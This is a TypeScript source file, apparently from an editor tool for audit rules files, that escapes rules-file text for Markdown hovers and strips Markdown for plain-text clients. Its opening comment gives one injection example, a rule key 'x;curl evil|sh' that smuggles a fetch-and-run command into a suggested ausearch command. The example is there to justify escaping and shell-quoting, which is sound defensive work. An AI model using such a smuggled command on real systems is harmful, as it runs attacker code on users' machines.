/**
 * How text taken from a rules file is written into a hover. A hover is Markdown, and a
 * rules file can hold any word auditctl accepts: `[x](https://example.com/)` would render
 * as a live link, `**` as emphasis, and a key such as `x;curl evil|sh` would turn a
 * suggested `ausearch -k` command into one that runs something else. So file text goes
 * in escaped, commands are shell-quoted, and clients that take only plain text get the
 * same hover with the Markdown taken out (`plainHoverText`).
 */
import { visibleText } from './visibleText';

/**
 * The characters that can start inline Markdown (emphasis, code, links and images through
 * their brackets, HTML, entities, strikethrough, table cells) or an autolink (`https:`,
 * `a@b`); `www.` gets its dot escaped too. File text only ever goes inside a line, so the
 * characters that matter only at a line's start (`-`, `+`, `#`, digits) stay as they are
 * and paths stay readable.
 */
const markdownMarks = /[\\`*_[\]<>|~:&@]|(?<=www)\./gi;

/** File text as Markdown prose: shown as written, never read as markup. */
export function markdownText(text: string): string {
  // Control characters first: their escapes hold a backslash that must then be escaped.
  return visibleText(text).replace(markdownMarks, '\\$&');
}

/**
 * File text as a Markdown code span. A span ends at a run of backticks as long as the one
 * that opened it, so the fence is one longer than the longest run in the text.
 */
export function markdownCode(text: string): string {
  const shown = visibleText(text);
  let longest = 0;
  for (const run of shown.match(/`+/g) ?? []) longest = Math.max(longest, run.length);
  const fence = '`'.repeat(longest + 1);
  const spaced = shown.startsWith(' ') && shown.endsWith(' ');
  const pad = shown.startsWith('`') || shown.endsWith('`') || spaced ? ' ' : '';
  return `${fence}${pad}${shown}${pad}${fence}`;
}

/**
 * A hover's Markdown as plain text, for clients that announce only `plaintext`. Hovers
 * use only bold, code spans, backslash escapes, tables, lists and rules, so one pass
 * that drops those marks gives the same words.
 */
export function plainHoverText(markdown: string): string {
  let plain = '';
  let index = 0;
  while (index < markdown.length) {
    const character = markdown[index];
    if (character === '\\' && index + 1 < markdown.length &&
      /[!-/:-@[-`{-~]/.test(markdown[index + 1])) {
      plain += markdown[index + 1];
      index += 2;
      continue;
    }
    if (character === '`') {
      let fenceEnd = index;
      while (markdown[fenceEnd] === '`') fenceEnd++;
      const fence = markdown.slice(index, fenceEnd);
      const close = closingFence(markdown, fenceEnd, fence);
      if (close !== -1) {
        let code = markdown.slice(fenceEnd, close);
        if (code.length > 1 && code.startsWith(' ') && code.endsWith(' ')) code = code.slice(1, -1);
        plain += code;
        index = close + fence.length;
        continue;
      }
      plain += fence;
      index = fenceEnd;
      continue;
    }
    if (character === '*' && markdown[index + 1] === '*') {
      index += 2;
      continue;
    }
    plain += character;
    index++;
  }
  return plain;
}

/** Where a code span opened with `fence` closes: a backtick run of exactly that length. */
function closingFence(markdown: string, from: number, fence: string): number {
  let at = markdown.indexOf(fence, from);
  while (at !== -1) {
    let end = at;
    while (markdown[end] === '`') end++;
    if (end - at === fence.length) return at;
    at = markdown.indexOf(fence, end);
  }
  return -1;
}
